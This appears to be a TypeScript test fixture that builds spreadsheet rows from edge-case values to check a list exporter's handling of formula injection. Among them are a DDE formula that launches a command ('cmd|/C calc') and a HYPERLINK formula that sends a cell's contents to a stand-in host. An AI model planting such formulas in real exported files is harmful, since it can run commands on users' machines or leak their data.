import type { Cells } from '~/features/lists/export/spreadsheet-cells';

/** For tests: values that spreadsheets run, change or break at. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://desk.test/?"&A1,"open")',
  "=cmd|'/C calc'!A0",
  '+33199001234',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'first\n=1+1',
  'first\r=1+1',
  'first\r\n=1+1',
  'first\rsecond;=1+1,=2+2\tthird',
  'a "quoted\r=1+1" word',
  '"=1+1"',
  "'=1+1",
  "''",
  ' =1+1 ',
  '＝1+1',
  '\u200B=1+1',
  '000123',
  '01000',
  '35600000000048',
  '12345678901234567890',
  '1E5',
  '10-12',
  '3/4',
  '12.5',
  'true',
  '2026-11-23',
  'Élodie Noël, « œuvre » à 5 €',
  'Кирилл 中文 العربية',
  '👩‍👩‍👧 😀',
  'semi;colon, comma and \t tab',
  '"',
  '<b>&amp;</b>]]>',
  '_x000D_ and _x0041_',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '\0\u0001\b\u001F\u007F\u0085\u009F',
  'replaced \uFFFD and not a character \uFFFE',
  ' spaces around ',
  '\uFEFFmark in front',
  'x'.repeat(32_767),
];

/** For tests: a header and `count` rows of ten cells, each a hostile value in turn; the very long one is among them. */
export function hostileRows(count: number): Cells {
  const header = Array.from({ length: 10 }, (_, column) => `Column ${column}`);
  const shortOnes = HOSTILE.filter((text) => text.length < 1_000);
  const rows = Array.from({ length: count }, (_, row) =>
    header.map((_, column) => {
      const values = row < HOSTILE.length ? HOSTILE : shortOnes;
      return values[(row + column * 7) % values.length] ?? '';
    }),
  );
  return [header, ...rows];
}
